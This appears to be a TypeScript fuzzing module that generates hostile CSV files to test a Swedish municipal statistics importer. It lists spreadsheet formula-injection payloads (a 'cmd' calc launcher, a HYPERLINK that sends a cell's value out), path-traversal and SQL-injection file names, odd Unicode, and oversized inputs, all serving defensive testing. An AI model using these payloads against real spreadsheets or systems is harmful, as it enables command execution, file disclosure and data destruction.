import * as fc from "fast-check";
import { hostile, type Kind } from "./hostile-file.ts";

const headings = ["kpi", "kommun", "år", "kön", "värde", "täljare", "nämnare"];
const sound = ["N02904", "1080", "2019", "T", "9,5", "1", "2"];

/** What a spreadsheet would run, where it let itself be fooled. */
export const formulas = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1;"Karlskrona")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '";=1+1;"',
  "＝1+1",
];
/** Signs that no cell should have. */
export const strange = [
  "\u0000",
  "\u0001",
  "\u001b[2J",
  "\u007f",
  "\u202e",
  "\ufeff",
  "\ud800",
  "\ufffe",
  "\u0085",
  "\u2028",
  "👨‍👩‍👧",
  "a\u0301".repeat(500),
];
/** Figures that are none, or that no database takes. */
export const figures = [
  "1e999",
  "-1e999",
  "1e-999",
  "9".repeat(400),
  `0.${"3".repeat(400)}`,
  "1e308",
  "NaN",
  "Infinity",
  "-0",
  "0x1f",
  "1_000",
  "١٢",
  "1 000 000 000 000 000 000 000",
  "1,2,3",
  "--1",
  "½",
  "2147483648",
  "99999999999999999999",
];

const place = fc.nat(headings.length * 2 - 1);

/** A sound little table with cells put into it: into the headings, the figures, or both. */
function tableWith(cell: fc.Arbitrary<string>): fc.Arbitrary<string> {
  const puts = fc.array(fc.tuple(place, cell), { minLength: 1, maxLength: 4 });
  return fc.tuple(puts, fc.constantFrom(";", ",", "\t", "|"), fc.boolean()).map(([put, delimiter, isQuoted]) => {
    const cells = [...headings, ...sound];
    for (const [at, text] of put) cells[at] = text;
    const written = cells.map((each) => (isQuoted ? `"${each.replaceAll('"', '""')}"` : each));
    const lines = [written.slice(0, headings.length), written.slice(headings.length), sound.with(2, "2020")];
    return lines.map((line) => `${line.join(delimiter)}\n`).join("");
  });
}

function table(kind: string, cell: fc.Arbitrary<string>, share: number): Record<string, Kind> {
  return { [kind]: { share, files: tableWith(cell).map((text) => hostile("fil.csv", text)) } };
}

const tenMegabytes = 10_485_760;
const patterns = [
  "x",
  '"',
  ";",
  ",",
  '""',
  '";',
  '"\n',
  "2019;",
  "N02904;",
  "\n",
  "\r",
  ";\n",
  "=1;",
  "å",
  "\u0000",
  "9",
  "'",
  "\t",
  " ",
];

/** Text files: cells, lines and signs. */
export const textKinds: Readonly<Record<string, Kind>> = {
  ...table("a table with formulas in any cell", fc.constantFrom(...formulas), 6),
  ...table(
    "a table with signs that no cell should have",
    fc.oneof(fc.constantFrom(...strange), fc.string({ unit: "binary", maxLength: 30 })),
    6,
  ),
  ...table("a table with figures that are none", fc.constantFrom(...figures), 5),
  "a name that is a path, a command or no name": {
    share: 3,
    files: fc
      .oneof(
        fc.constantFrom(
          "../../etc/passwd",
          "C:\\Windows\\win.ini",
          "con",
          "",
          ".",
          "a\u0000.csv",
          "\ud800.csv",
          "x".repeat(5_000),
          "'; drop table observation; --",
          "<script>.csv",
          "rad\nrad.csv",
        ),
        fc.string({ unit: "binary", maxLength: 300 }),
      )
      .map((name) => hostile(name, "kpi;kommun;år;värde\nN02904;1080;2019;9,5\n")),
  },
  "ten megabytes of the same sign, with or without an end": {
    share: 1,
    files: fc
      .tuple(
        fc.constantFrom("", "kpi;kommun;år;värde\n", "kpi;kommun;år;värde\nN02904;1080;2019;9,5\n", '"'),
        fc.constantFrom(...patterns),
        fc.constantFrom("", "\n", '"', '"\nN02904;1080;2019;9,5\n'),
      )
      .map(([before, pattern, after]) =>
        hostile("fil.csv", before + pattern.repeat(tenMegabytes / pattern.length) + after),
      ),
  },
  "a million columns": {
    share: 0.5,
    files: fc
      .tuple(
        fc.constantFrom(";", ","),
        fc.integer({ min: 300, max: 1_000_000 }),
        fc.constantFrom("kpi", "2019", "", "a"),
      )
      .map(([delimiter, columns, heading]) => {
        const first = `kpi${delimiter}kommun${delimiter}år${delimiter}värde${`${delimiter}${heading}`.repeat(columns)}`;
        return hostile(
          "fil.csv",
          `${first}\nN02904${delimiter}1080${delimiter}2019${delimiter}9.5${delimiter.repeat(columns)}\n`,
        );
      }),
  },
  "a hundred thousand rows that are wrong, each in its own way": {
    share: 0.2,
    files: fc.nat().map((seed) => {
      const rows = Array.from({ length: 100_000 }, (_, row) => `N${row};ort ${row};${row};kön ${seed + row};x${row}`);
      return hostile("fil.csv", `kpi;kommun;år;kön;värde\n${rows.join("\n")}\n`);
    }),
  },
  "bytes at random": { share: 4, files: fc.uint8Array({ maxLength: 3_000 }).map((bytes) => hostile("fil.csv", bytes)) },
};
